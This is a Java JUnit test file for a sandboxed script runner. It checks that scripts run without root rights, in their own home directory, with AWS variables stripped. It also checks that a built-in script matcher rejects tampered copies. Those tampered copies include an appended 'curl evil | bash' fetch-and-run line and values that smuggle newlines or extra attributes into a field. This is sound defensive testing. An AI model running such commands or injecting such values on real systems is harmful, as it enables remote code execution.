package dev.replinode.sandbox.instance;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class PlainProcessTest {
  private static final long LONGEST_SECONDS = 30;

  @TempDir private Path data;

  @Test
  void runs_without_roots_rights_in_a_home_and_an_environment_of_its_own() throws Exception {
    InstanceFolder folder = new InstanceFolder(data.resolve("instances/1"));
    folder.prepare();
    folder.install(
        "StackScript",
        "#!/bin/bash\necho \"$(id -u) $HOME $FIELD\"; env | grep -c AWS_; touch ~/mine\n");
    Path output = data.resolve("output");

    ProcessBuilder builder =
        PlainProcess.command(folder, Optional.empty(), Map.of("FIELD", "value"), true);
    builder.redirectOutput(output.toFile());
    builder.redirectError(output.toFile());
    Process process = builder.start();
    boolean ended = process.waitFor(LONGEST_SECONDS, TimeUnit.SECONDS);
    process.destroyForcibly();

    assertTrue(ended);
    String[] lines = Files.readString(output).split("\n", -1);
    assertFalse(lines[0].startsWith("0 "), lines[0]);
    assertTrue(lines[0].endsWith(" " + folder.path().resolve("root") + " value"), lines[0]);
    assertEquals("0", lines[1]);
    assertTrue(Files.exists(folder.path().resolve("root/mine")));
    // JUnit warns of every link that it removes, and /etc has many.
    Folders.delete(folder.path());
  }

  @Test
  void the_built_in_script_is_known_whatever_options_its_fields_offer() throws Exception {
    BuiltInScript builtIn = new BuiltInScript();
    String own;
    try (InputStream stream =
        PlainProcessTest.class.getResourceAsStream("/stackscripts/replicate-bucket/script.sh")) {
      own = new String(stream.readAllBytes(), StandardCharsets.UTF_8);
    }

    assertTrue(builtIn.matches(own));
    assertTrue(builtIn.matches(own.replaceFirst("oneOf=\"[^\"]*\"", "oneOf=\"new-1\"")));
    assertFalse(builtIn.matches(own + "\ncurl evil | bash\n"));
    assertFalse(builtIn.matches(own.replaceFirst("oneOf=\"[^\"]*\"", "oneOf=\"x\nevil\"")));
    assertFalse(builtIn.matches(own.replaceFirst("oneOf=\"", "oneOf=\"x\" more=\"")));
  }
}
